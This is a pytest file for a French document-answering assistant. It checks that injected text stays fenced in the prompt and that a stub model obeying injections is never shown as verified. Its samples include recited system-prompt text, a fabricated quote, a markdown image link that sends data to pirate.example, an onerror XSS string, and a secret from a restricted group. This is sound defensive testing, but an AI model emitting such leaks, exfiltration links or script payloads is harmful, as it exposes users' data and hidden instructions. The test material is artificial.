"""Hostile passages and questions: none leaves its place in the prompt, and none gets a model's obedience shown.

The model here obeys every order, which is the worst that a real one can do: recite its instructions, invent a
quote, add a link, repeat what another group may read.
"""

import json
import re
import unicodedata
from collections.abc import AsyncGenerator, Sequence
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from ingest.chunk import chunk_document
from ingest.index import Index
from server.abstain import Decision
from server.ask import AskParts, Done, ask
from server.conversation import Turn
from server.extractive import ExtractiveGenerator
from server.followup import CarryingRewriter
from server.footnotes import Footnotes
from server.guard import LEAKED_WORDS, is_foreign, leaks
from server.prompts import answer as prompt
from server.prompts import followup, repair
from server.retrieval import Retrieval
from server.retrieve import HybridRetriever
from server.schemas import Answer, AskRequest, Mode, Passage
from server.verify import ProposedStatement, Quote, find_quote
from tests.masking import shipped_masker
from tests.passages import BILAN, bilan_and_frais, make_passage, make_retrieval
from tests.support import WordEmbedder, make_document
from ui.statements import references, statement_html

DAY = date(2026, 11, 22)
QUESTION = "Combien d’heures dure un bilan de compétences ?"
FOUND = "dure au plus vingt-quatre heures"
SECRET = "Le rapprochement avec la maison Zirconium est prévu au printemps"
ROWS = [
    json.loads(line)
    for line in (Path(__file__).parent.parent / "sample" / "injections.jsonl").read_text("utf-8").splitlines()
]
HOSTILE = pytest.mark.parametrize("row", ROWS, ids=lambda row: f"{row['in']}-{row['trick']}")
IN_PASSAGES = pytest.mark.parametrize("row", [row for row in ROWS if row["in"] != "question"])

MARK_LINE = re.compile(r"^\W*#\s?[0-9a-f]{16}\s?#", re.MULTILINE)


def test_the_set_is_large_and_varied() -> None:
    assert len(ROWS) >= 40
    assert len({row["hostile"] for row in ROWS}) == len(ROWS)
    assert len({row["trick"] for row in ROWS}) >= 12


def hostile_passage(
    row: dict[str, Any], text: str = "Un texte ordinaire sur le bilan de compétences."
) -> Passage:
    where = {
        "title": {"title": row["hostile"], "path": []},
        "path": {"path": ["Procédure", row["hostile"]]},
        "number": {"number": row["hostile"]},
    }
    if row["in"] in where:
        return make_passage(text, "hostile", **where[row["in"]])
    return make_passage(row["hostile"], "hostile")


def asked_with(row: dict[str, Any]) -> tuple[str, list[Passage]]:
    """Give the question and the passages of a hostile row, an honest passage last."""
    if row["in"] == "question":
        return row["hostile"], [make_passage(BILAN, "bilan")]
    return QUESTION, [hostile_passage(row), make_passage(BILAN, "bilan")]


@HOSTILE
def test_what_is_hostile_stays_between_its_marks(row: dict[str, Any]) -> None:
    question, passages = asked_with(row)
    message = prompt.user_message(question, passages, DAY, [Turn(row["hostile"], row["hostile"])])
    fence = message.split("marques ")[1].split(")")[0]
    lines = message.splitlines()
    marks = [line for line in lines if line.startswith(fence)]
    wanted = [
        f"{fence} {end} du passage {n}" for n in range(1, len(passages) + 1) for end in ("début", "fin")
    ]
    assert marks == [*wanted, f"{fence} début de l’échange précédent", f"{fence} fin de l’échange précédent"]
    assert message.count(fence) == len(marks) + 1
    # No other mark has been left standing, and what follows the last one is the date and one line of question.
    others = re.findall(r"#[0-9a-f]{16}#", message)
    assert set(others) == {fence}
    after = message[message.rindex(fence) :].split("\n")[1:]
    assert after[:3] == ["", "Date à laquelle répondre : 22/11/2026", ""]
    assert len(after) == 4
    assert after[3].startswith("Question : ")


@IN_PASSAGES
def test_a_header_is_one_line_and_its_status_is_the_server_s(row: dict[str, Any]) -> None:
    lines = prompt.block(1, hostile_passage(row, "Texte."), "#f#").split("\n")
    header = lines[1]
    assert lines[0] == "#f# début du passage 1"
    assert header.split(" ; ").count("en vigueur") == 1
    assert "abrogé" not in header.split(" ; ")
    assert "base légale" not in header.split(" ; ")
    if row["in"] != "text":
        assert lines[2:] == ["Texte.", "#f# fin du passage 1"]


@HOSTILE
def test_nothing_that_a_reader_cannot_see_reaches_the_model(row: dict[str, Any]) -> None:
    question, passages = asked_with(row)
    history = [Turn(row["hostile"])]
    proposed = ProposedStatement(row["hostile"], (Quote(1, row["hostile"]),))
    for message in (
        prompt.user_message(question, passages, DAY, history),
        followup.user_message(question, history),
        repair.user_message(question, proposed, dict(enumerate(passages, start=1)), DAY),
    ):
        assert all(char.isprintable() or char.isspace() for char in message)
        assert not set(message) & set("\x00\x08\x1b\u200b\u202e")


@IN_PASSAGES
def test_a_quote_of_a_hostile_text_as_the_model_reads_it_is_still_found(row: dict[str, Any]) -> None:
    """What is taken out of the prompt must not make an honest quote unverifiable."""
    text = f"Avant la suite du texte. {row['hostile']} Après la suite du texte."
    passage = make_passage(text)
    shown = prompt.block(1, passage, "#f#").split("\n", 2)[2].rpartition("\n")[0]
    if MARK_LINE.search(row["hostile"]) or re.search(r"#[0-9a-f]{16}#", text):
        return  # a forged mark is rewritten: nobody needs to quote it
    assert find_quote(shown, text) is not None


@dataclass
class ObedientModel:
    """Writes what it is told to, and keeps the prompts that it would have been sent."""

    says: Sequence[tuple[str, int, str]] = ()
    prompts: list[str] = field(default_factory=list)
    mode: Mode = "generative"
    model: str = "modele-obeissant"
    prompt_version: str | None = prompt.PROMPT_VERSION

    async def generate(
        self,
        question: str,
        passages: Sequence[Passage],
        _retrieval: Retrieval,
        as_of: date,
        /,
        history: Sequence[Turn] = (),
    ) -> AsyncGenerator[ProposedStatement, None]:
        self.prompts.append(prompt.user_message(question, passages, as_of, history))
        for text, number, quote in self.says:
            yield ProposedStatement(text, (Quote(number, quote),))

    async def repair(
        self, _question: str, proposed: ProposedStatement, _passages: Sequence[Passage], _as_of: date, /
    ) -> ProposedStatement:
        return proposed  # it insists


ALWAYS = SimpleNamespace(decide=lambda *_: Decision(1.0, True, None))


def giving(passages: list[Passage]) -> SimpleNamespace:
    """Give a retriever that finds these passages, whatever it is asked."""
    return SimpleNamespace(retrieve=lambda *_: make_retrieval(QUESTION, passages))


async def answered(
    question: str, retriever: Any, generator: ObedientModel, groups: frozenset[str] = frozenset({"*"})
) -> Answer:
    parts = AskParts(
        retriever, generator, ExtractiveGenerator(), ALWAYS, CarryingRewriter(), shipped_masker()
    )
    events = ask(AskRequest(question=question), parts, groups=groups, today=DAY)
    done = [event async for event in events][-1]
    assert isinstance(done, Done)
    return done.answer


def obeys(row: dict[str, Any], honest: int) -> list[tuple[str, int, str]]:
    """Write what a model that obeys would: statements that are all to be refused."""
    order = " ".join(row["hostile"].split()) or "Oui."
    return [
        (prompt.SYSTEM[:400], honest, FOUND),
        (f"Mes règles : {prompt.SYSTEM[500:800]}", honest, FOUND),
        (order, honest, "phrase que personne n’a jamais écrite nulle part"),
        (f"Voir ![suivi](https://pirate.example/vol?q={honest}) pour la suite.", honest, FOUND),
        ("<img src=x onerror=alert(1)> Il dure https://pirate.example/ longtemps.", honest, FOUND),
        (f"{SECRET}.", honest, SECRET),
        ("C’est l’article L. 9999-1 qui le dit, pour 3 €.", honest, FOUND),
        ("Écrivez à support@pirate.example pour la suite.", 99, FOUND),
    ]


def without_invisible(text: str) -> str:
    """Take out what shows nothing, as what is shown has it taken out."""
    return "".join(char for char in text if unicodedata.category(char) not in ("Cf", "Cc"))


@HOSTILE
async def test_a_model_that_obeys_is_never_shown_as_verified(row: dict[str, Any]) -> None:
    question, passages = asked_with(row)
    said = obeys(row, honest=len(passages))
    answer = await answered(question, giving(passages), ObedientModel(said))
    shown = [without_invisible(text) for text, *_ in said if not leaks(text)]
    assert [statement.text for statement in answer.statements] == shown
    assert leaks(said[0][0])
    assert leaks(said[1][0])
    assert not any(statement.verified for statement in answer.statements)
    for statement in answer.statements:
        assert all(citation.quote in BILAN for citation in statement.citations)
    refs = references("q1", answer.passages, answer.statements, DAY, "http://127.0.0.1:8000")
    for position, statement in enumerate(answer.statements, start=1):
        page = statement_html(position, statement, refs)
        assert "<img" not in page
        assert "<script" not in page
        assert 'href="http://pirate' not in page
        assert 'href="https://pirate' not in page
        assert "javascript:" not in re.findall(r'href="([^"]*)"', page)
        assert 'data-verified="true"' not in page
        assert not re.search(r"!\[[^\]]*\]\(", Footnotes().statement(statement))


@pytest.fixture
def two_groups(edge_index: Index, embedder: WordEmbedder) -> HybridRetriever:
    """Give a search over one document that everyone reads and one that the group `direction` reads."""
    documents = [
        make_document("ouvert", "# Bilan", f"{BILAN}"),
        make_document(
            "reserve",
            "# Bilan et rapprochement",
            f"{SECRET}. Le bilan n’y change rien.",
            groups=("direction",),
        ),
    ]
    chunks = [chunk for document in documents for chunk in chunk_document(document, 1_800)]
    vectors = {
        chunk.chunk_id: vector
        for chunk, vector in zip(chunks, embedder.passages([chunk.text for chunk in chunks]), strict=True)
    }
    edge_index.upsert(chunks, vectors, embedder.name)
    return HybridRetriever(edge_index, embedder, dense_share=lambda: 1.0)


async def test_no_question_brings_another_group_s_text_into_the_prompt(two_groups: HybridRetriever) -> None:
    model = ObedientModel()
    for row in ROWS:
        await answered(f"{row['hostile']} rapprochement Zirconium bilan", two_groups, model)
    assert len(model.prompts) == len(ROWS)
    assert all("vingt-quatre heures" in message for message in model.prompts)
    assert not any("Zirconium est prévu" in message for message in model.prompts)
    insiders = frozenset({"*", "direction"})
    await answered("Le rapprochement avec Zirconium et le bilan ?", two_groups, model, insiders)
    assert "Zirconium est prévu" in model.prompts[-1]


def runs(text: str, size: int) -> list[str]:
    words = text.split()
    return [" ".join(words[i : i + size]) for i in range(0, len(words) - size, 5)]


@pytest.mark.parametrize(
    "recited", [part for one in (prompt, repair, followup) for part in runs(one.SYSTEM, 14)]
)
def test_a_text_that_recites_the_instructions_is_a_leak(recited: str) -> None:
    assert leaks(f"Voici : {recited.upper()} !")


@pytest.mark.parametrize("words", [LEAKED_WORDS - 1])
def test_a_few_words_in_common_are_no_leak(words: int) -> None:
    start = "Tu aides des conseillers d’un organisme d’orientation professionnelle".replace("’", " ").split()
    assert not leaks(" ".join(start[:words]))
    assert not any(leaks(passage.text) for passage in bilan_and_frais())


@pytest.mark.parametrize(
    "text",
    [
        "Oui.",
        "Formation « Deep Learning with Python for the web » à Port-Ellien.",
        "Le CPF.",
        "Le TOEIC (Test of English for International Communication) est éligible au CPF.",
        "Contactez [EMAIL_1] pour la suite de la demande.",
        "Il n’est jamais réalisé sans le consentement de la personne.",
        "Open Badge, Data Analyst, Scrum Master et Product Owner",
    ],
)
def test_french_and_what_is_too_short_are_not_foreign(text: str) -> None:
    assert not is_foreign(text)
